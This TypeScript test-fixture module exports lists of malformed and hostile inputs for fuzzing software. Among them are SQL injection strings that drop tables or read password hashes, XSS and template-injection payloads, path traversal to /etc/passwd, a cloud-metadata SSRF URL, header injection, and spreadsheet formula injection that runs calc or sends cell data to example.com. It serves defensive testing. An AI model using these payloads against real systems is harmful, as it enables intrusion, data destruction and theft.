import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** Strings known to break programs: markup, SQL, paths, malformed numbers, and unusual letters. */
export const naughtyStrings: readonly string[] = [
  '',
  ' ',
  '0',
  '-1',
  '00',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '１２３',
  '٠١٢',
  '9007199254740993',
  '2147483648',
  '99999999999999999999',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  "'",
  "''",
  '"',
  '`',
  '\\',
  '\\\\',
  "\\'",
  '%',
  '%%',
  '_',
  '%_%',
  '$1',
  '$$',
  ':a',
  '?',
  ';',
  '--',
  '/*',
  "' or '1'='1",
  "'; drop table accounts; --",
  "' union select password_hash from accounts --",
  "') or pg_sleep(5) is not null --",
  "\\'; select 1 --",
  '{{7*7}}',
  '#{7*7}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;&#0;&amp;',
  ']]>',
  '../../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '=1+1',
  '+1',
  '@SUM(1)',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002',
  'a\nb',
  'a\r\nSet-Cookie: a=b',
  '\t',
  '\u007f',
  '\u0085',
  '\u2028',
  '\ufeff',
  '\ufffd',
  '\ufffe',
  '\ud800',
  'e\u0301',
  '\u202etxet',
  'ÅÄÖ ß ẞ İ ı',
  '日本語',
  'عربى',
  '😀👩‍👩‍👧‍👦',
  'a'.repeat(255),
  'a'.repeat(5000),
  '('.repeat(1000),
  '2026-02-30',
  '02/30/2026',
  '99/99/9999',
  '1,2,3',
  ','.repeat(3000),
]

const root = join(import.meta.dirname, '../../../..')
const largeFile = process.env.NAUGHTY_STRINGS_FILE ?? join(root, '../../shared/badinput/blns.json')

/** The Big List of Naughty Strings, if it exists next to the project or at `NAUGHTY_STRINGS_FILE`. */
export const largeList: readonly string[] | undefined = existsSync(largeFile)
  ? JSON.parse(readFileSync(largeFile, 'utf8'))
  : undefined

const payloadFile = process.env.CSV_PAYLOAD_FILE ?? join(root, '../../shared/badinput/csv-payload.txt')

/** Cells that a spreadsheet might evaluate, from a public list and our own. */
export const formulaCells: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=WEBSERVICE("http://example.com")',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  "-2+3+cmd|' /C calc'!A0",
  ...(existsSync(payloadFile)
    ? readFileSync(payloadFile, 'utf8')
        .split(/\r?\n/)
        .filter((line) => line !== '')
    : []),
]
